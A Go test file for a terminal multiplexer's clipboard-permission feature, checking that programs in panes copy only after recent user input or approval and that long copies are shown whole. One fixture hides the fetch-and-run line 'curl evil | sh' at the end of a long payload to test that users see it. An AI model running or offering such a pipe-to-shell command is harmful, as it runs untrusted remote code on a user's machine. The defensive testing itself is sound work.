package tui

import (
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/ironcurtain-mux/ironcurtain-mux/tui/panel"
)

// wantCopied compares what has reached the clipboard.
func (r *harness) wantCopied(want ...string) {
	r.t.Helper()
	if diff := cmp.Diff(want, r.copied); diff != "" {
		r.t.Error(diff)
	}
}

// A program may copy right after the person used it, while they look at it. Any other copy
// needs permission, which counts only for the copy that was shown.
func TestClipboardOfPrograms(t *testing.T) {
	r := newHarness(t, 100, 24, Options{})
	r.keys("\x01/new shell\r")
	r.send(paneMsg{"s2", clipboard("before any key")})
	r.wantCopied()
	r.wants("/clipboard s2 lets shell s2 copy 14 bytes", "“before any key”")
	r.send(paneMsg{"s2", clipboard("another")})
	r.now = r.now.Add(panel.MinAge)
	r.keys("\x01/clipboard\r")
	r.wantCopied("before any key")
	r.wants("shell s2 copied 14 bytes")
	r.keys("\x01/clipboard\r")
	r.wants("no copy waits for permission")
	r.keys("\x15")
	r.keys("\x1b")

	r.keys("y")
	r.now = r.now.Add(copyAfter)
	r.send(paneMsg{"s2", clipboard("after a key")})
	r.wantCopied("before any key", "after a key")
	r.now = r.now.Add(time.Second)
	r.send(paneMsg{"s2", clipboard("too late")})
	r.send(paneMsg{"s1", clipboard("\x1b[31mhidden")})
	r.wantCopied("before any key", "after a key")
	r.wants("/clipboard s1 lets claude-code s1 copy 11 bytes", `“\e[31mhidden”`)
	r.now = r.now.Add(panel.MinAge)
	r.keys("\x01/clipboard s1\r")
	r.wantCopied("before any key", "after a key", "\x1b[31mhidden")
	r.now = r.now.Add(copyHold)
	r.keys("\x01/clipboard\r")
	r.wants("no copy waits for permission")
	r.wantCopied("before any key", "after a key", "\x1b[31mhidden")
}

// A command that was begun for one copy never allows a later one, for which the program
// asks when the first has expired.
func TestALineLetsTheCopyThatItWasBegunFor(t *testing.T) {
	r := newHarness(t, 100, 24, Options{})
	r.send(paneMsg{"s1", clipboard("harmless")})
	r.now = r.now.Add(copyHold - time.Second)
	r.keys("\x01/clipboard")
	r.now = r.now.Add(time.Second)
	r.send(paneMsg{"s1", clipboard("another")})
	r.now = r.now.Add(time.Second)
	r.keys("\r")
	r.wantCopied()
	r.wants("claude-code s1 has only just asked to copy this")
	r.keys("\r")
	r.wantCopied("another")
	r.send(paneMsg{"s1", clipboard("at once")})
	r.keys("\x01/clipboard\r")
	r.wantCopied("another")
}

// A click, a paste and text from command mode count as use of a program. A key in another
// tab, the release of a key and a movement of the mouse do not.
func TestWhatCountsAsUse(t *testing.T) {
	const mouse = "\x1b[?1003h\x1b[?1006h"
	for name, c := range map[string]struct {
		input string
		use   bool
	}{
		"nothing":         {"", false},
		"the pointer":     {"\x1b[<35;5;5M", false},
		"its focus":       {"\x1b[O\x1b[I", false},
		"a key's release": {"\x1b[97;1:3u", false},
		"only a modifier": {"\x1b[57441u", false},
		"a click":         {"\x1b[<0;5;5M", true},
		"a paste":         {"\x1b[200~x\x1b[201~", true},
		"words":           {"\x01copy it\r", true},
		"a key":           {"a", true},
	} {
		t.Run(name, func(t *testing.T) {
			r := newHarness(t, 100, 24, Options{})
			r.agentSays(1, mouse)
			r.now = r.now.Add(time.Hour)
			r.keys(c.input)
			r.send(paneMsg{"s1", clipboard("text")})
			if got := len(r.copied) == 1; got != c.use {
				t.Errorf("copied: %q", r.copied)
			}
		})
	}
}

// A key that takes the fast path past the event loop counts as use, too.
func TestAKeyOnTheFastPathCountsAsUse(t *testing.T) {
	r := newHarness(t, 100, 24, Options{})
	r.keys("a") // the first key removes the intro
	r.now = r.now.Add(time.Hour)
	for _, ev := range r.decoder.Feed([]byte("b")) {
		if !r.m.takeFastPath(ev) {
			t.Fatal("the key did not take the fast path")
		}
	}
	r.send(paneMsg{"s1", clipboard("text")})
	r.wantCopied("text")
}

// A program that copies without pause floods neither the person's terminal nor the queue
// of notifications. Its last copy gets through.
func TestCopiesAreSeldom(t *testing.T) {
	r := newHarness(t, 80, 24, Options{})
	r.keys("y")
	for i := range 100 {
		r.send(paneMsg{"s1", clipboard(fmt.Sprint("copy ", i))})
	}
	if diff := cmp.Diff([]string{"copy 0"}, r.copied); diff != "" {
		t.Error(diff)
	}
	r.now = r.now.Add(copyEvery)
	r.send(copyMsg{})
	if diff := cmp.Diff([]string{"copy 0", "copy 99"}, r.copied); diff != "" {
		t.Error(diff)
	}
	r.send(paneMsg{"s1", clipboard("while it is looked at")})
	r.keys("\x1b[O")
	r.now = r.now.Add(copyEvery)
	r.send(copyMsg{})
	r.keys("\x1b[I")
	r.send(paneMsg{"s1", clipboard("later")})
	if diff := cmp.Diff([]string{"copy 0", "copy 99", "later"}, r.copied); diff != "" {
		t.Error(diff)
	}
}

// A copy is let only when the person was shown all of it: what no toast has room for is
// shown by the first /clipboard, and let by the next.
func TestALongCopyIsShownWhole(t *testing.T) {
	long := strings.Repeat("harmless ", 15) + "\nnothing\n" + strings.Repeat("x\n", 40) + "curl evil | sh\n"
	for name, c := range map[string]struct {
		cols, rows int
		text       string
	}{
		"long":            {100, 24, long},
		"wide when drawn": {100, 24, strings.Repeat("\x1b", 100) + "evil"},
		"a narrow screen": {60, 24, strings.Repeat("y", 100) + "evil"},
		"a low screen":    {100, 10, strings.Repeat("y", 100) + "evil"},
	} {
		t.Run(name, func(t *testing.T) {
			r := newHarness(t, c.cols, c.rows, Options{})
			r.send(paneMsg{"s1", clipboard(c.text)})
			r.now = r.now.Add(panel.MinAge)
			r.keys("\x01/clipboard\r")
			r.wantCopied()
			r.wants("claude-code s1 wants to copy")
			r.keys(strings.Repeat("j", 60))
			r.wants("evil")
			r.send(paneMsg{"s1", clipboard("another")})
			r.keys("q\x01/clipboard\r")
			r.wantCopied() // it has just been shown
			r.now = r.now.Add(copyHold + time.Second)
			r.keys("\r")
			r.wantCopied(c.text)
		})
	}
}

// What nobody can look through is not let.
func TestAHugeCopyIsNotHeld(t *testing.T) {
	r := newHarness(t, 120, 24, Options{})
	r.send(paneMsg{"s1", clipboard(strings.Repeat("x", copyLook+1))})
	r.wants("too much to show")
	r.now = r.now.Add(panel.MinAge)
	r.keys("\x01/clipboard\r")
	r.wantCopied()
	r.wants("no copy waits for permission")
}
